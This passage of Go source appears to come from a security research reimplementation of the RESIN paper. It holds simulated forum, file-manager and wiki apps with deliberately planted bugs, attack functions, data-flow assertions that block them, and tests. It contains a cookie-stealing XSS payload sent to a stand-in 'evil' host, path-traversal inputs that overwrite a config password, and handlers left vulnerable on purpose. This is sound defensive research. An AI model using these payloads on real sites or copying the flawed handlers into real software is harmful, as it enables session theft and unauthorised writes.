func AttackPrintView(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/printview", map[string]string{"msg": "2"}, mallory)
	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
}

// AttackReplyQuote: the §6.3 reply path — replying to an unreadable
// message quotes its content into the reply form.
func AttackReplyQuote(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/reply", map[string]string{"msg": "2"}, mallory)
	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
}

// AttackPluginLatest: a third-party "latest posts" plugin lists messages
// from all forums without access checks.
func AttackPluginLatest(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/plugin/latest", nil, mallory)
	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
}

// AttackPluginSearch: a third-party search plugin matches messages in
// forums the searcher may not read.
func AttackPluginSearch(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/plugin/search", map[string]string{"q": "backup"}, mallory)
	return strings.Contains(resp.RawBody(), staffSecret), blockedBy(err)
}

// --- Cross-site scripting (4 known) ---

const xssPayload = `<script>document.location='http://evil/?c='+document.cookie</script>`

// AttackSignatureXSS: mallory stores a script in her signature; the
// victim views her profile, which renders the signature raw.
func AttackSignatureXSS(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	a.Server.Do("GET", "/register", map[string]string{"name": "mallory"}, mallory)
	if _, err := a.Server.Do("GET", "/setsig", map[string]string{"sig": xssPayload}, mallory); err != nil {
		return false, blockedBy(err)
	}
	victim := a.Server.NewSession("victim")
	resp, err := a.Server.Do("GET", "/profile", map[string]string{"user": "mallory"}, victim)
	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
}

// AttackWhoisXSS: the §6.3 unusual path — the adversary plants JavaScript
// in a whois record; the forum renders the whois response raw.
func AttackWhoisXSS(withAssertions bool) (leaked bool, blockErr error) {
	a, ws := newInstance(withAssertions)
	ws.SetRecord("6.6.6.6", "owner: "+xssPayload)
	victim := a.Server.NewSession("victim")
	resp, err := a.Server.Do("GET", "/whois", map[string]string{"ip": "6.6.6.6"}, victim)
	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
}

// AttackSearchEchoXSS: the search plugin echoes the query unescaped; the
// adversary sends the victim a crafted search link.
func AttackSearchEchoXSS(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	victim := a.Server.NewSession("victim")
	resp, err := a.Server.Do("GET", "/plugin/search", map[string]string{"q": xssPayload}, victim)
	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
}

// AttackSubjectXSS: mallory posts a message whose subject carries a
// script; the single-post view renders subjects raw.
func AttackSubjectXSS(withAssertions bool) (leaked bool, blockErr error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/post",
		map[string]string{"forum": "1", "subject": xssPayload, "body": "hi"}, mallory)
	if be := blockedBy(err); be != nil {
		return false, be
	}
	id := strings.TrimPrefix(resp.RawBody(), "posted #")
	victim := a.Server.NewSession("victim")
	resp, err = a.Server.Do("GET", "/viewpost", map[string]string{"msg": id}, victim)
	return strings.Contains(resp.RawBody(), "<script>"), blockedBy(err)
}

// --- Legitimate flows ---

// LegitimateTopicView checks that ordinary forum reading still works with
// the assertions installed.
func LegitimateTopicView(withAssertions bool) (ok bool, err error) {
	a, _ := newInstance(withAssertions)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/topic", map[string]string{"forum": "1"}, mallory)
	if err != nil {
		return false, err
	}
	return strings.Contains(resp.RawBody(), "welcome to the board"), nil
}

// LegitimateStaffView checks that staff can still read the staff forum
// through every path.
func LegitimateStaffView(withAssertions bool) (ok bool, err error) {
	a, _ := newInstance(withAssertions)
	admin := a.Server.NewSession("admin")
	for _, route := range []struct {
		path   string
		params map[string]string
	}{
		{"/topic", map[string]string{"forum": "2"}},
		{"/printview", map[string]string{"msg": "2"}},
		{"/reply", map[string]string{"msg": "2"}},
		{"/plugin/latest", nil},
	} {
		resp, err := a.Server.Do("GET", route.path, route.params, admin)
		if err != nil {
			return false, err
		}
		if !strings.Contains(resp.RawBody(), staffSecret) {
			return false, nil
		}
	}
	return true, nil
}
