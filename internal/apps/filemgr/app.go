// Package filemgr re-implements the two web file managers the RESIN paper
// evaluates — File Thingie and PHP Navigator. Both confine each user's
// write access to a home directory, both have checking code in place, and
// both have a directory traversal bug that slips past it (Table 4: one
// newly discovered vulnerability each). The assertion is the §3.2.3 write
// access filter: persistent filter objects on the directories themselves,
// which hold no matter how the path was computed.
package filemgr

import (
	"fmt"
	"strings"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/vfs"
)

const filesRoot = "/srv/files"

// Variant selects which of the two file managers to build; they share the
// storage layout but have different vulnerable code paths.
type Variant int

// The two file managers of Table 4.
const (
	FileThingie Variant = iota
	PHPNavigator
)

func (v Variant) String() string {
	if v == PHPNavigator {
		return "PHP Navigator"
	}
	return "File Thingie"
}

// App is one file-manager instance.
type App struct {
	RT      *core.Runtime
	FS      *vfs.FS
	Server  *httpd.Server
	variant Variant

	assertions bool
}

// New builds a file manager with per-user homes for alice and bob plus a
// server configuration file outside any home.
func New(rt *core.Runtime, variant Variant, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		FS:         vfs.New(rt),
		Server:     httpd.NewServer(rt),
		variant:    variant,
		assertions: withAssertions,
	}
	must(a.FS.MkdirAll(filesRoot+"/home", nil))
	must(a.FS.MkdirAll("/srv/config", nil))
	must(a.FS.WriteFile("/srv/config/app.conf", core.NewString("admin_password=topsecret"), nil))
	for _, u := range []string{"alice", "bob"} {
		a.AddUser(u)
	}
	if withAssertions {
		a.enableWriteAssertion()
	}
	a.Server.Handle("/upload", a.handleUpload)
	a.Server.Handle("/view", a.handleView)
	a.Server.Handle("/move", a.handleMove)
	a.Server.Handle("/list", a.handleList)
	return a
}

func must(err error) {
	if err != nil {
		panic(fmt.Sprintf("filemgr: %v", err))
	}
}

// AddUser creates a user's home directory.
func (a *App) AddUser(user string) {
	must(a.FS.MkdirAll(home(user), nil))
	if a.assertions {
		must(a.FS.SetPersistentFilter(home(user), &HomeDirFilter{Owner: user}))
	}
}

func home(user string) string { return filesRoot + "/home/" + user }

func fileCtx(user string) *core.Context {
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", user)
	ctx.Set("home", home(user))
	return ctx
}

// checkName is the managers' own (flawed) filename validation: it rejects
// absolute paths and names that begin with "..", but misses ".." embedded
// after a legitimate first segment — the bug we discovered.
func checkName(name string) error {
	if strings.HasPrefix(name, "/") {
		return fmt.Errorf("filemgr: absolute paths not allowed")
	}
	if strings.HasPrefix(name, "..") {
		return fmt.Errorf("filemgr: parent references not allowed")
	}
	return nil
}

// handleUpload is File Thingie's vulnerable path: the checked-but-flawed
// name is joined under the user's home, so "photos/../../../config/x"
// escapes.
func (a *App) handleUpload(req *httpd.Request, resp *httpd.Response) error {
	user := sessionUser(req)
	name := req.ParamRaw("name")
	if err := checkName(name); err != nil {
		resp.Status = 400
		return err
	}
	target := vfs.Resolve(home(user) + "/" + name)
	dir := target[:strings.LastIndex(target, "/")]
	if dir != "" && !a.FS.Exists(dir) {
		if err := a.FS.MkdirAll(dir, fileCtx(user)); err != nil {
			resp.Status = 403
			return err
		}
	}
	if err := a.FS.WriteFile(target, req.Param("content"), fileCtx(user)); err != nil {
		resp.Status = 403
		return err
	}
	return resp.Write(core.Format("uploaded %s", sanitize.HTMLEscape(core.NewString(target))))
}

// handleMove is PHP Navigator's vulnerable path: the source is validated,
// the destination is not.
func (a *App) handleMove(req *httpd.Request, resp *httpd.Response) error {
	user := sessionUser(req)
	src := req.ParamRaw("src")
	dst := req.ParamRaw("dst")
	if err := checkName(src); err != nil {
		resp.Status = 400
		return err
	}
	// BUG: dst is never validated.
	srcPath := vfs.Resolve(home(user) + "/" + src)
	dstPath := vfs.Resolve(home(user) + "/" + dst)
	if err := a.FS.Rename(srcPath, dstPath, fileCtx(user)); err != nil {
		resp.Status = 403
		return err
	}
	return resp.Write(core.Format("moved to %s", sanitize.HTMLEscape(core.NewString(dstPath))))
}

// handleView reads a file within the user's home; the prefix check here
// is correct.
func (a *App) handleView(req *httpd.Request, resp *httpd.Response) error {
	user := sessionUser(req)
	target := vfs.Resolve(home(user) + "/" + req.ParamRaw("name"))
	if !strings.HasPrefix(target, home(user)+"/") {
		resp.Status = 403
		return fmt.Errorf("filemgr: outside home")
	}
	data, err := a.FS.ReadFile(target, fileCtx(user))
	if err != nil {
		resp.Status = 404
		return err
	}
	return resp.Write(data)
}

// handleList lists the user's home.
func (a *App) handleList(req *httpd.Request, resp *httpd.Response) error {
	user := sessionUser(req)
	names, err := a.FS.List(home(user))
	if err != nil {
		return err
	}
	return resp.Write(sanitize.HTMLEscape(core.NewString(strings.Join(names, "\n"))))
}

func sessionUser(req *httpd.Request) string {
	if req.Session == nil {
		return ""
	}
	return req.Session.User
}

// Variant returns which manager this instance models.
func (a *App) Variant() Variant { return a.variant }
