package filemgr

// The RESIN write-access assertion for the file managers (Table 4: 19 LoC
// for File Thingie, 17 for PHP Navigator in the paper). It is the §3.2.3
// mechanism: persistent filter objects stored in the extended attributes
// of the directories themselves. The application's path arithmetic can be
// arbitrarily wrong — the filters sit on the data, not on the code paths.

import (
	_ "embed"
	"fmt"

	"resin/internal/core"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: filemgr-write-access

// HomeDirFilter is the persistent filter on a user's home directory: only
// the owner may create, delete, or rename entries beneath it, and only the
// owner may modify its files.
type HomeDirFilter struct {
	Owner string `json:"owner"`
}

// FilterDirOp vetoes directory modifications by anyone but the owner.
func (f *HomeDirFilter) FilterDirOp(op, name string, ctx *core.Context) error {
	if u, _ := ctx.GetString("user"); u == f.Owner {
		return nil
	}
	return fmt.Errorf("filemgr: only %s may modify this directory", f.Owner)
}

// FilterWrite vetoes file modifications by anyone but the owner.
func (f *HomeDirFilter) FilterWrite(ch *core.Channel, data core.String, off int64) (core.String, error) {
	if u, _ := ch.Context().GetString("user"); u == f.Owner {
		return data, nil
	}
	return core.String{}, fmt.Errorf("filemgr: only %s may write this file", f.Owner)
}

// SystemDirFilter is the persistent filter on everything outside the
// homes: web users (operations carrying a "user" in their context) may
// not modify it; server-internal operations (no user) may.
type SystemDirFilter struct{}

// FilterDirOp vetoes modifications arriving from web sessions.
func (f *SystemDirFilter) FilterDirOp(op, name string, ctx *core.Context) error {
	if u, _ := ctx.GetString("user"); u != "" {
		return fmt.Errorf("filemgr: system directory is read-only for web users")
	}
	return nil
}

// FilterWrite vetoes overwriting system files from web sessions.
func (f *SystemDirFilter) FilterWrite(ch *core.Channel, data core.String, off int64) (core.String, error) {
	if u, _ := ch.Context().GetString("user"); u != "" {
		return core.String{}, fmt.Errorf("filemgr: system file is read-only for web users")
	}
	return data, nil
}

// enableWriteAssertion installs the persistent filters on the system
// directories and their files (homes get theirs in AddUser).
func (a *App) enableWriteAssertion() {
	for _, dir := range []string{"/srv", filesRoot, filesRoot + "/home", "/srv/config"} {
		must(a.FS.SetPersistentFilter(dir, &SystemDirFilter{}))
	}
	must(a.FS.SetPersistentFilter("/srv/config/app.conf", &SystemDirFilter{}))
}

// END ASSERTION

func init() {
	core.RegisterFilterClass("filemgr.HomeDirFilter", &HomeDirFilter{})
	core.RegisterFilterClass("filemgr.SystemDirFilter", &SystemDirFilter{})
}
