package filemgr

import (
	"strings"
	"testing"
)

func TestFileThingieTraversal(t *testing.T) {
	escaped, _ := AttackFileThingieTraversal(false)
	if !escaped {
		t.Fatal("traversal must succeed without the assertion")
	}
	escaped, blockErr := AttackFileThingieTraversal(true)
	if escaped {
		t.Fatal("assertion failed to confine the write")
	}
	if blockErr == nil {
		t.Fatal("the traversal should be blocked with an error")
	}
}

func TestPHPNavigatorTraversal(t *testing.T) {
	escaped, _ := AttackPHPNavigatorTraversal(false)
	if !escaped {
		t.Fatal("move traversal must succeed without the assertion")
	}
	escaped, blockErr := AttackPHPNavigatorTraversal(true)
	if escaped || blockErr == nil {
		t.Fatalf("assertion should block the move: escaped=%v err=%v", escaped, blockErr)
	}
}

func TestCrossHomeWrite(t *testing.T) {
	escaped, _ := AttackCrossHomeWrite(false)
	if !escaped {
		t.Fatal("cross-home write must succeed without the assertion")
	}
	escaped, blockErr := AttackCrossHomeWrite(true)
	if escaped || blockErr == nil {
		t.Fatalf("per-home filter should block: escaped=%v err=%v", escaped, blockErr)
	}
}

func TestLegitimateOperationsUnbroken(t *testing.T) {
	for _, on := range []bool{false, true} {
		for _, v := range []Variant{FileThingie, PHPNavigator} {
			ok, err := LegitimateUpload(v, on)
			if err != nil || !ok {
				t.Errorf("%s assertions=%v: upload ok=%v err=%v", v, on, ok, err)
			}
		}
		ok, err := LegitimateMove(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: move ok=%v err=%v", on, ok, err)
		}
	}
}

func TestOwnValidationCatchesObviousCases(t *testing.T) {
	a := newInstance(FileThingie, false)
	s := a.Server.NewSession("alice")
	for _, name := range []string{"/etc/passwd", "../outside.txt"} {
		resp, err := a.Server.Do("GET", "/upload", map[string]string{"name": name, "content": "x"}, s)
		if err == nil || resp.Status != 400 {
			t.Errorf("name %q should be rejected by the app's own check", name)
		}
	}
}

func TestViewConfinedToHome(t *testing.T) {
	a := newInstance(FileThingie, true)
	s := a.Server.NewSession("alice")
	resp, err := a.Server.Do("GET", "/view", map[string]string{"name": "../../../config/app.conf"}, s)
	if err == nil || resp.Status != 403 {
		t.Errorf("view traversal should be denied: %v %d", err, resp.Status)
	}
	if strings.Contains(resp.RawBody(), "topsecret") {
		t.Error("config leaked")
	}
}

func TestListHome(t *testing.T) {
	a := newInstance(FileThingie, true)
	s := a.Server.NewSession("alice")
	a.Server.Do("GET", "/upload", map[string]string{"name": "f.txt", "content": "x"}, s)
	resp, err := a.Server.Do("GET", "/list", nil, s)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(resp.RawBody(), "f.txt") {
		t.Errorf("list = %q", resp.RawBody())
	}
}

func TestVariantString(t *testing.T) {
	if FileThingie.String() != "File Thingie" || PHPNavigator.String() != "PHP Navigator" {
		t.Error("variant names wrong")
	}
	if newInstance(PHPNavigator, false).Variant() != PHPNavigator {
		t.Error("variant accessor wrong")
	}
}
