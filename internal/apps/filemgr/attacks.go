package filemgr

import (
	"strings"

	"resin/internal/core"
)

func newInstance(v Variant, withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	return New(rt, v, withAssertions)
}

// AttackFileThingieTraversal mounts the File Thingie directory traversal:
// the upload name passes the manager's own validation but escapes the
// home via an embedded "..", overwriting the server configuration.
func AttackFileThingieTraversal(withAssertions bool) (escaped bool, blockErr error) {
	a := newInstance(FileThingie, withAssertions)
	mallory := a.Server.NewSession("mallory")
	a.AddUser("mallory")
	_, err := a.Server.Do("GET", "/upload", map[string]string{
		"name":    "photos/../../../../config/app.conf",
		"content": "admin_password=owned",
	}, mallory)
	conf, rerr := a.FS.ReadFile("/srv/config/app.conf", nil)
	if rerr != nil {
		return false, err
	}
	escaped = strings.Contains(conf.Raw(), "owned")
	return escaped, err
}

// AttackPHPNavigatorTraversal mounts the PHP Navigator traversal: the
// move destination is unvalidated, so a home file can be moved over a file
// outside the home (here, planting a config into the server directory).
func AttackPHPNavigatorTraversal(withAssertions bool) (escaped bool, blockErr error) {
	a := newInstance(PHPNavigator, withAssertions)
	mallory := a.Server.NewSession("mallory")
	a.AddUser("mallory")
	// Stage a payload inside the home (legitimate).
	if _, err := a.Server.Do("GET", "/upload", map[string]string{
		"name": "payload.conf", "content": "admin_password=owned",
	}, mallory); err != nil {
		return false, err
	}
	_, err := a.Server.Do("GET", "/move", map[string]string{
		"src": "payload.conf",
		"dst": "../../../config/evil.conf",
	}, mallory)
	escaped = a.FS.Exists("/srv/config/evil.conf")
	return escaped, err
}

// AttackCrossHomeWrite has mallory write into bob's home through the
// traversal; the per-home filter is what blocks it.
func AttackCrossHomeWrite(withAssertions bool) (escaped bool, blockErr error) {
	a := newInstance(FileThingie, withAssertions)
	mallory := a.Server.NewSession("mallory")
	a.AddUser("mallory")
	_, err := a.Server.Do("GET", "/upload", map[string]string{
		"name":    "x/../../bob/planted.txt",
		"content": "gotcha",
	}, mallory)
	escaped = a.FS.Exists(home("bob") + "/planted.txt")
	return escaped, err
}

// LegitimateUpload checks that ordinary uploads inside the home still
// work with the assertion installed.
func LegitimateUpload(v Variant, withAssertions bool) (ok bool, err error) {
	a := newInstance(v, withAssertions)
	alice := a.Server.NewSession("alice")
	if _, err = a.Server.Do("GET", "/upload", map[string]string{
		"name": "notes/todo.txt", "content": "ship it",
	}, alice); err != nil {
		return false, err
	}
	resp, err := a.Server.Do("GET", "/view", map[string]string{"name": "notes/todo.txt"}, alice)
	if err != nil {
		return false, err
	}
	return resp.RawBody() == "ship it", nil
}

// LegitimateMove checks that in-home moves still work.
func LegitimateMove(withAssertions bool) (ok bool, err error) {
	a := newInstance(PHPNavigator, withAssertions)
	alice := a.Server.NewSession("alice")
	if _, err = a.Server.Do("GET", "/upload", map[string]string{
		"name": "a.txt", "content": "x",
	}, alice); err != nil {
		return false, err
	}
	if _, err = a.Server.Do("GET", "/move", map[string]string{
		"src": "a.txt", "dst": "b.txt",
	}, alice); err != nil {
		return false, err
	}
	return a.FS.Exists(home("alice")+"/b.txt") && !a.FS.Exists(home("alice")+"/a.txt"), nil
}
