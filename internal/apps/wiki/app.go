// Package wiki re-implements the MoinMoin slice the RESIN paper evaluates:
// wiki pages with per-page read/write ACLs, stored as a directory of
// revision files (§5.1). It contains the two previously-known missing
// read-access-control bugs of Table 4 — the include-directive path
// (CVE-2008-6548) and a raw-export path — plus the Figure 5 read assertion
// (8 LoC in the paper) and the §5.1 write assertion (15 LoC).
package wiki

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/vfs"
)

// ACL is a page's access control list.
type ACL struct {
	Read  []string `json:"read"`
	Write []string `json:"write"`
}

// May reports whether user may perform op ("read" or "write"). The
// wildcard entry "*" grants everyone.
func (a ACL) May(user, op string) bool {
	var list []string
	if op == "read" {
		list = a.Read
	} else {
		list = a.Write
	}
	for _, u := range list {
		if u == "*" || u == user {
			return true
		}
	}
	return false
}

const pagesRoot = "/wiki/pages"

// App is one wiki instance.
type App struct {
	RT     *core.Runtime
	FS     *vfs.FS
	Server *httpd.Server

	assertions bool
}

// New builds a wiki over rt with the request handlers registered. With
// withAssertions set, pages saved from then on carry PagePolicy objects
// and page directories get persistent write filters.
func New(rt *core.Runtime, withAssertions bool) *App {
	return NewWithFS(rt, vfs.New(rt), withAssertions)
}

// NewWithFS builds a wiki over an existing filesystem — a "restart" of
// the wiki process: pages, their persisted PagePolicy annotations, and
// their persistent write filters are all already on disk and keep being
// enforced by the fresh instance.
func NewWithFS(rt *core.Runtime, fs *vfs.FS, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		FS:         fs,
		Server:     httpd.NewServer(rt),
		assertions: withAssertions,
	}
	if err := a.FS.MkdirAll(pagesRoot, nil); err != nil {
		panic(err)
	}
	a.Server.Handle("/view", a.handleView)
	a.Server.Handle("/raw", a.handleRaw)
	a.Server.Handle("/edit", a.handleEdit)
	return a
}

func pageDir(name string) string { return pagesRoot + "/" + name }

// CreatePage creates a page with an ACL and initial body.
func (a *App) CreatePage(name string, acl ACL, body string, author string) error {
	dir := pageDir(name)
	if err := a.FS.MkdirAll(dir, nil); err != nil {
		return err
	}
	aclJSON, err := json.Marshal(acl)
	if err != nil {
		return err
	}
	if err := a.FS.SetXattr(dir, "user.wiki.acl", aclJSON); err != nil {
		return err
	}
	if a.assertions {
		// The write assertion (§5.1): a persistent filter on the page
		// directory restricts creating/removing revision files, and each
		// revision file gets a filter restricting modification.
		if err := a.FS.SetPersistentFilter(dir, &PageWriteFilter{ACL: acl.Write}); err != nil {
			return err
		}
	}
	return a.updateBody(name, core.NewString(body), author)
}

// PageACL reads a page's ACL.
func (a *App) PageACL(name string) (ACL, error) {
	raw, err := a.FS.GetXattr(pageDir(name), "user.wiki.acl")
	if err != nil {
		return ACL{}, fmt.Errorf("wiki: no ACL for page %q: %w", name, err)
	}
	var acl ACL
	if err := json.Unmarshal(raw, &acl); err != nil {
		return ACL{}, err
	}
	return acl, nil
}

// updateBody is Figure 5's update_body: it attaches a PagePolicy (carrying
// a copy of the read ACL) to the page text and writes it as a new revision
// file; the default file filter persists the policy in the file's extended
// attributes.
func (a *App) updateBody(name string, text core.String, author string) error {
	dir := pageDir(name)
	if a.assertions {
		acl, err := a.PageACL(name)
		if err != nil {
			return err
		}
		text = a.RT.PolicyAdd(text, &PagePolicy{ACL: acl.Read})
	}
	revs, err := a.FS.List(dir)
	if err != nil {
		return err
	}
	n := 0
	for _, r := range revs {
		if strings.HasPrefix(r, "rev") {
			n++
		}
	}
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", author)
	path := fmt.Sprintf("%s/rev%05d", dir, n+1)
	if err := a.FS.WriteFile(path, text, ctx); err != nil {
		return err
	}
	if a.assertions {
		acl, aerr := a.PageACL(name)
		if aerr == nil {
			if ferr := a.FS.SetPersistentFilter(path, &PageWriteFilter{ACL: acl.Write}); ferr != nil {
				return ferr
			}
		}
	}
	return nil
}

// latestBody reads the newest revision of a page — with tracking on, the
// persisted PagePolicy comes back attached.
func (a *App) latestBody(name string) (core.String, error) {
	dir := pageDir(name)
	revs, err := a.FS.List(dir)
	if err != nil {
		return core.String{}, err
	}
	last := ""
	for _, r := range revs {
		if strings.HasPrefix(r, "rev") && r > last {
			last = r
		}
	}
	if last == "" {
		return core.String{}, fmt.Errorf("wiki: page %q has no revisions", name)
	}
	return a.FS.ReadFile(dir+"/"+last, nil)
}

var includeRe = regexp.MustCompile(`\{\{include:([A-Za-z0-9_-]+)\}\}`)

// render expands {{include:Page}} directives. This is the CVE-2008-6548
// shape: the included page's content is fetched WITHOUT checking its ACL.
// (With assertions on, the included content still carries its PagePolicy,
// so the HTTP boundary catches the leak no matter how the data got there.)
func (a *App) render(body core.String) core.String {
	var out core.Builder
	raw := body.Raw()
	pos := 0
	for _, m := range includeRe.FindAllStringSubmatchIndex(raw, -1) {
		out.Append(body.Slice(pos, m[0]))
		inc, err := a.latestBody(raw[m[2]:m[3]])
		if err == nil {
			out.Append(inc) // missing ACL check — the bug
		} else {
			out.AppendRaw("[missing page]")
		}
		pos = m[1]
	}
	out.Append(body.Slice(pos, body.Len()))
	return out.String()
}

// annotate sets the channel context of Figure 5's process_client: the
// authenticated user.
func annotate(req *httpd.Request, resp *httpd.Response) string {
	user := ""
	if req.Session != nil {
		user = req.Session.User
	}
	resp.Channel().Context().Set("user", user)
	return user
}

// handleView renders a page. The direct ACL check is present and correct;
// the include path inside render is the vulnerable flow.
func (a *App) handleView(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	name := req.ParamRaw("page")
	acl, err := a.PageACL(name)
	if err != nil {
		resp.Status = 404
		return err
	}
	if !acl.May(user, "read") {
		resp.Status = 403
		return fmt.Errorf("wiki: %s may not read %s", user, name)
	}
	body, err := a.latestBody(name)
	if err != nil {
		return err
	}
	if werr := resp.Write(core.Format("<html><body><h1>%s</h1>\n<pre>", sanitize.HTMLEscape(req.Param("page")))); werr != nil {
		return werr
	}
	if werr := resp.Write(sanitize.HTMLEscape(a.render(body))); werr != nil {
		return werr
	}
	resp.WriteRaw("</pre></body></html>")
	return nil
}

// handleRaw is the second missing-check bug: a raw-export action that
// forgets the ACL check entirely.
func (a *App) handleRaw(req *httpd.Request, resp *httpd.Response) error {
	annotate(req, resp)
	name := req.ParamRaw("page")
	body, err := a.latestBody(name)
	if err != nil {
		resp.Status = 404
		return err
	}
	return resp.Write(body) // no ACL check — the bug
}

// handleEdit saves a new revision; the write ACL check here is correct.
func (a *App) handleEdit(req *httpd.Request, resp *httpd.Response) error {
	user := annotate(req, resp)
	name := req.ParamRaw("page")
	acl, err := a.PageACL(name)
	if err != nil {
		resp.Status = 404
		return err
	}
	if !acl.May(user, "write") {
		resp.Status = 403
		return fmt.Errorf("wiki: %s may not write %s", user, name)
	}
	if err := a.updateBody(name, req.Param("body"), user); err != nil {
		return err
	}
	return resp.WriteRaw("saved")
}
