package wiki

// The RESIN data flow assertions for MoinMoin (Table 4): the Figure 5 read
// assertion and the §5.1 write assertion. The paper's comparison point:
// checking the same ACL scheme under Flume took ~2,000 lines of
// restructuring; under RESIN it is these two small objects plus one
// policy_add call in update_body.

import (
	_ "embed"
	"fmt"

	"resin/internal/core"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: moinmoin-read-acl

// PagePolicy is Figure 5's policy object: it carries a copy of the page's
// read ACL and matches the output channel's user against it.
type PagePolicy struct {
	ACL []string `json:"acl"`
}

// ExportCheck implements Data Flow Assertion 4: wiki page p may flow out
// of the system only to a user on p's ACL.
func (p *PagePolicy) ExportCheck(ctx *core.Context) error {
	user, _ := ctx.GetString("user")
	if (ACL{Read: p.ACL}).May(user, "read") {
		return nil
	}
	return fmt.Errorf("insufficient access")
}

// END ASSERTION

// BEGIN ASSERTION: moinmoin-write-acl

// PageWriteFilter is the write assertion of §5.1: a persistent filter
// object attached to the files and directory that represent a wiki page.
// It restricts the modification of existing revisions (FilterWrite) and
// the creation or deletion of revision files (FilterDirOp) to users on
// the page's write ACL.
type PageWriteFilter struct {
	ACL []string `json:"acl"`
}

// FilterWrite vetoes modification of an existing revision by non-writers.
func (f *PageWriteFilter) FilterWrite(ch *core.Channel, data core.String, off int64) (core.String, error) {
	user, _ := ch.Context().GetString("user")
	if (ACL{Write: f.ACL}).May(user, "write") {
		return data, nil
	}
	return core.String{}, fmt.Errorf("wiki: %s not on write ACL", user)
}

// FilterDirOp vetoes creating, deleting, or renaming revision files by
// non-writers.
func (f *PageWriteFilter) FilterDirOp(op, name string, ctx *core.Context) error {
	user, _ := ctx.GetString("user")
	if (ACL{Write: f.ACL}).May(user, "write") {
		return nil
	}
	return fmt.Errorf("wiki: %s may not %s %s", user, op, name)
}

// END ASSERTION

func init() {
	core.RegisterPolicyClass("wiki.PagePolicy", &PagePolicy{})
	core.RegisterFilterClass("wiki.PageWriteFilter", &PageWriteFilter{})
}
