package wiki

import (
	"strings"
	"testing"

	"resin/internal/core"
)

func TestIncludeDirectiveVulnerability(t *testing.T) {
	leaked, _ := AttackIncludeDirective(false)
	if !leaked {
		t.Fatal("unmodified wiki must leak through the include directive")
	}
	leaked, blockErr := AttackIncludeDirective(true)
	if leaked {
		t.Fatal("assertion failed to stop the include leak")
	}
	if blockErr == nil {
		t.Fatal("flow should be blocked by the PagePolicy")
	}
	ae, _ := core.IsAssertionError(blockErr)
	if _, ok := ae.Policy.(*PagePolicy); !ok {
		t.Errorf("blocking policy = %T", ae.Policy)
	}
}

func TestRawExportVulnerability(t *testing.T) {
	leaked, _ := AttackRawExport(false)
	if !leaked {
		t.Fatal("unmodified wiki must leak through raw export")
	}
	leaked, blockErr := AttackRawExport(true)
	if leaked || blockErr == nil {
		t.Fatalf("assertion should block raw export: leaked=%v err=%v", leaked, blockErr)
	}
}

func TestLegitimateAccessUnbroken(t *testing.T) {
	for _, on := range []bool{false, true} {
		ok, err := LegitimateRead(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: read ok=%v err=%v", on, ok, err)
		}
		ok, err = LegitimateWrite(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: write ok=%v err=%v", on, ok, err)
		}
	}
}

func TestDirectACLCheckStillWorks(t *testing.T) {
	// The app's own check on /view denies mallory even without RESIN.
	a := seeded(false)
	mallory := a.Server.NewSession("mallory")
	resp, err := a.Server.Do("GET", "/view", map[string]string{"page": "Secret"}, mallory)
	if err == nil || resp.Status != 403 {
		t.Errorf("direct view should be denied by the app: %v %d", err, resp.Status)
	}
}

func TestUnauthorizedDirectWrite(t *testing.T) {
	written, _ := UnauthorizedDirectWrite(false)
	if !written {
		t.Fatal("without the filter the direct write succeeds")
	}
	written, blockErr := UnauthorizedDirectWrite(true)
	if written || blockErr == nil {
		t.Fatalf("write filter should block: written=%v err=%v", written, blockErr)
	}
}

func TestAuthorizedDirectWrite(t *testing.T) {
	a := seeded(true)
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", "alice")
	if err := a.FS.WriteFile(pageDir("Secret")+"/rev99999", core.NewString("by alice"), ctx); err != nil {
		t.Fatalf("authorized direct write: %v", err)
	}
}

func TestModifyExistingRevisionGuarded(t *testing.T) {
	a := seeded(true)
	ctx := core.NewContext(core.KindFile)
	ctx.Set("user", "mallory")
	if err := a.FS.WriteFile(pageDir("Secret")+"/rev00001", core.NewString("defaced"), ctx); err == nil {
		t.Fatal("modifying an existing revision must be vetoed")
	}
	// Deleting a revision is a directory op, also guarded.
	if err := a.FS.Remove(pageDir("Secret")+"/rev00001", ctx); err == nil {
		t.Fatal("deleting a revision must be vetoed")
	}
}

